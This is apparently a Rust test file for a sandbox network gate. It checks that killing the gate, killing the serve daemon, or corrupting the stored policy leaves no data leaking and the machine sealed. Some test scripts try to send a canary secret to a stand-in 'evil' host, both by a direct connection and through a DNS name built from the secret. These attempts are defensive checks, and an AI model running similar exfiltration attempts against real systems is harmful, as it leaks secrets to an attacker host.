//! EG19: the gate dies in the middle of a transfer, `serve` dies, the policy on disk is broken. No
//! byte passes that was not decided; the gate comes back by itself; who has no readable policy is
//! sealed.

use std::time::{Duration, Instant};

use den_testkit::{Site, eventually};

use crate::world::{World, answered, canary, refused};

fn gate(world: &World) -> Option<i32> {
    std::fs::read_to_string(world.house.run_dir().join("gate.pid")).ok()?.trim().parse().ok()
}

fn kill(pid: i32) {
    let pid = rustix::process::Pid::from_raw(pid).expect("a pid");
    rustix::process::kill_process(pid, rustix::process::Signal::KILL).expect("SIGKILL to the gate");
}

#[test]
fn a_dead_gate_is_a_closed_gate() {
    let world = World::guarded(&["good.test"]);
    let secret = canary();
    let script = "good = address('good.test')\n\
         s = socket.create_connection((good, 80)); s.settimeout(10)\n\
         s.sendall(b'GET /stream HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')\n\
         try:\n\
         \x20while s.recv(65536): pass\n\
         \x20say(end='closed')\n\
         except OSError as e: say(end=how(e))";
    std::thread::scope(|scope| {
        let inside = world.start(scope, "c", script);
        eventually(Duration::from_secs(10), "the stream runs", || world.net.streamed() > 20_000);
        let before = gate(&world).expect("a gate");
        // Until it is back, attempts are refused at once, allowed or not; none hangs and none passes.
        let attempts = world.start(
            scope,
            "c",
            &format!(
                "good = address('good.test')\n\
                 until = time.time() + 4\n\
                 while time.time() < until:\n\
                 \x20say(**fate('{{evil}}', 80, b'{secret}', wait=2.5), to='evil')\n\
                 \x20say(**get(good, 'good.test', wait=2.5), to='good')\n\
                 \x20time.sleep(0.02)"
            ),
        );
        std::thread::sleep(Duration::from_millis(1200));
        kill(before);
        let end = &inside.join().expect("the stream")[0]["end"];
        assert_eq!(end, "reset", "the client sees a broken connection, not an end");
        let stopped = world.net.streamed();
        std::thread::sleep(Duration::from_millis(300));
        assert!(world.net.streamed() <= stopped + 64 * 1024, "the upstream is let go");
        for seen in attempts.join().expect("the attempts") {
            if seen["to"] == "evil" {
                refused(&seen);
            } else {
                assert!(seen["end"] != "silent", "no attempt hangs: {seen}");
            }
        }
        eventually(Duration::from_secs(10), "another gate", || gate(&world).is_some_and(|now| now != before));
    });
    eventually(Duration::from_secs(10), "it works again", || {
        let seen = world.run("c", "r = dns('good.test', wait=1)\nsay(**(get(r['addresses'][0], 'good.test', wait=2) if r.get('addresses') else dict(got='')))");
        seen[0]["got"].as_str().is_some_and(|got| got.starts_with("HTTP/1.1 200"))
    });
    // The same policy as before.
    refused(&world.run("c", &format!("say(**fate('{{evil}}', 80, b'{secret}'))"))[0]);
    crate::world::blocked(&world.run("c", &format!("say(**dns('{secret}.evil.test'))"))[0]);
    world.untouched(Site::Evil);
    world.no_leak(&secret);
}

#[test]
fn the_gate_goes_on_as_it_was_told_while_serve_is_away() {
    let mut world = World::guarded(&["good.test"]);
    world.add("o", "open", &[]);
    let before = gate(&world).expect("a gate");
    let step = |posture: &str| {
        format!(
            "import time\nuntil = time.time() + 3\nwhile time.time() < until:\n\
             \x20r = fate('{{evil}}', 80, b'GET /x HTTP/1.0\\r\\nConnection: close\\r\\n\\r\\n', wait=2)\n\
             \x20say(to='{posture}', end=r['end'], ok=r['got'].startswith('HTTP/1.1 200'))\n\
             \x20time.sleep(0.05)"
        )
    };
    // Commands survive `serve`; what they see is read afterwards from their output.
    let mut numbers = Vec::new();
    for name in ["c", "o"] {
        let script = format!(
            "{}{}",
            include_str!("inside.py"),
            step(name).replace("{evil}", &world.net.at(Site::Evil).to_string())
        );
        let body = serde_json::json!({"argv": ["python3", "-c", script], "detach": true});
        let reply = world.house.api().post(&format!("/v1/computers/{name}/steps"), &body).expect(202).json();
        numbers.push(reply["number"].as_u64().expect("a number"));
    }
    std::thread::sleep(Duration::from_millis(500));
    world.house.kill_serve();
    std::thread::sleep(Duration::from_millis(1500));
    world.house.start();
    assert_eq!(gate(&world), Some(before), "the gate outlives serve");
    for (name, number) in ["c", "o"].into_iter().zip(numbers) {
        let path = format!("/v1/computers/{name}/steps/{number}");
        eventually(Duration::from_secs(20), "the step ends", || {
            world.house.api().get(&path).expect(200).json()["status"] == "ended"
        });
        let accept = [("accept", "application/octet-stream")];
        let out =
            world.house.api().request("GET", &format!("{path}/output?stream=stdout"), &accept, b"").expect(200).body;
        let lines: Vec<serde_json::Value> =
            String::from_utf8_lossy(&out).lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
        assert!(lines.len() > 10, "{lines:?}");
        let passed = lines.iter().filter(|line| line["ok"] == true).count();
        if name == "c" {
            assert_eq!(passed, 0, "{lines:?}");
        } else {
            assert_eq!(passed, lines.len(), "{lines:?}");
        }
    }
}

#[test]
fn a_policy_that_cannot_be_read_seals() {
    let mut world = World::guarded(&["good.test"]);
    world.add("d", "guarded", &["good.test"]);
    answered(&world.run("c", "say(**get(address('good.test'), 'good.test'))")[0]);
    world.house.kill_serve();
    let script = format!(
        "import glob, sqlite3\n\
         done = 0\n\
         for file in glob.glob('{}/**/*.db', recursive=True) + glob.glob('{0}/**/*.sqlite*', recursive=True):\n\
         \x20if file.endswith(('-wal', '-shm')): continue\n\
         \x20base = sqlite3.connect(file)\n\
         \x20done += base.execute(\"update computers set net = '{{{{\\\"posture\\\": \\\"wide\\\"' where name = 'c'\").rowcount\n\
         \x20base.commit(); base.close()\n\
         print(done)",
        world.house.data().display()
    )
    .replace("{{{{", "{");
    let out = std::process::Command::new("python3").args(["-c", &script]).output().expect("python3");
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "1", "{out:?}");
    world.house.start();
    let since = Instant::now();
    // At once when serve answers, or the moment it has spoken with the gate.
    loop {
        let seen = world.run("c", "say(**dns('good.test', wait=1))");
        if seen[0]["code"] == 5 {
            break;
        }
        assert!(since.elapsed() < Duration::from_secs(5), "not sealed: {seen:?}");
    }
    refused(&world.run("c", "say(**fate('198.18.0.9', 80, b'x'))")[0]);
    assert_eq!(world.house.json(&["net", "c"])["posture"], "sealed");
    world.denied("c", "dns", "sealed", "good.test");
    // The neighbour's row is sound, and so is its network.
    answered(&world.run("d", "say(**get(address('good.test'), 'good.test'))")[0]);
    // A policy that can be read ends it.
    world.house.den(&["net", "c", "guarded"]).ok();
    world.house.den(&["net", "c", "allow", "good.test"]).ok();
    answered(&world.run("c", "say(**get(address('good.test'), 'good.test'))")[0]);
}
